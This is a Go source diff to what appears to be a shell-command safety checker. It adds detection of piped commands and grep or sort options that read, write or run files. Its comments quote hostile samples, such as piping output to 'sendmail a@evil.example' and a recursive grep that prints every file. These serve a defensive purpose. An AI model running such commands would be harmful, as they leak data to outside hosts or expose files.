@@ -81,6 +81,19 @@ func inertAlternative(s string, ws, we int) bool {
 	if k < len(s) && strings.IndexByte("|) \t,", s[k]) < 0 && !(s[k] == '.' && (k+1 == len(s) || isSpace(s[k+1]))) {
 		return false
 	}
+	// In a sentence the next word is prose. An operand there ("x|env|
+	// sendmail a@evil.example", "-s", a path) makes the last alternative
+	// a command fed the weak command's output, whatever its name.
+	if k < len(s) && isSpace(s[k]) {
+		n := skipSpace(s, k)
+		e := n
+		for e < len(s) && !isSpace(s[e]) && strings.IndexByte("|;&)`", s[e]) < 0 {
+			e++
+		}
+		if e > n && !alphaWord(s[n:e]) {
+			return false
+		}
+	}
 	_, known := strongCommands[s[j:k]]
 	return !known
 }
@@ -130,7 +143,7 @@ func harmlessFilter(s string, i int) bool {
 		}
 		switch {
 		case a[0] == '-':
-			if w == "sort" && (strings.HasPrefix(a, "-o") || strings.HasPrefix(a, "--o") || strings.HasPrefix(a, "--c") || strings.HasPrefix(a, "--f") || strings.HasPrefix(a, "--t")) {
+			if filterOpensFiles(w, a) {
 				return false
 			}
 		case strings.Trim(a, "0123456789,:") == "" && strings.IndexAny(a, "0123456789") >= 0,
@@ -145,6 +158,30 @@ func harmlessFilter(s string, i int) bool {
 		}
 	}
 	return true
+}
+
+// filterOpensFiles reports whether the option a of the text filter w
+// makes it read or write files instead of the pipe: grep -r, -R, -d
+// recurse and --recursive search the working directory when no file is
+// named ("| grep -ri ''" prints every file under it), sort -o and
+// --output write one, --compress-program runs one, --files0-from reads
+// the list to open. Short options cluster ("-uo out", "-rh"), and long
+// options may be abbreviated ("--rec"), so both are read that way.
+func filterOpensFiles(w, a string) bool {
+	long := strings.HasPrefix(a, "--")
+	switch w {
+	case "grep", "egrep", "fgrep":
+		if long {
+			return strings.HasPrefix(a, "--r") || strings.HasPrefix(a, "--d")
+		}
+		return strings.ContainsAny(a[1:], "rRd")
+	case "sort":
+		if long {
+			return strings.HasPrefix(a, "--o") || strings.HasPrefix(a, "--c") || strings.HasPrefix(a, "--f") || strings.HasPrefix(a, "--t")
+		}
+		return strings.IndexByte(a[1:], 'o') >= 0
+	}
+	return false
 }
 
 // timestampSubst reports whether the substitution whose command word
